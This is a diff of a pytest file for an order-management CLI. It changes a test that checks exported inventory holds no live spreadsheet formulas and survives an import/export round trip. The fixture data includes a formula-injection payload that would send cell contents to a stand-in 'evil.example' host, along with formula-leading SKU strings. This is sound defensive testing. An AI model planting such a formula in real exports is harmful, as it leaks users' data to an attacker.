@@ -8,8 +8,8 @@ from pathlib import Path
 
 import pytest
 
-from oms_core import Oms, OrderLine, SetStock, Settings
-from tests.cli.conftest import Cli
+from oms_core import OrderLine, SetStock, Settings
+from tests.cli.conftest import Cli, KeptOms
 
 FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Click")'
 SKUS = ["=1+1", "+A", "-A", "@A", "-5", "'=A", "A"]
@@ -34,7 +34,7 @@ def stocked(cli: Cli) -> Cli:
 def test_an_export_runs_nothing_and_comes_back_as_it_was(stocked: Cli, tmp_path: Path) -> None:
     exported = stocked("inventory", "export").out
     assert not any(map(runs, cells(exported)))
-    other = Cli(Oms.open(Settings(database_url="memory://", group_commit=False)), tmp_path)
+    other = Cli(KeptOms.open(Settings(database_url="memory://", group_commit=False)), tmp_path)
     assert other("inventory", "import", "-", given=exported).code == 0
     assert other("inventory", "list", "-o", "json").out.count(FORMULA.replace('"', '\\"')) == len(SKUS)
     assert other("inventory", "export").out == exported
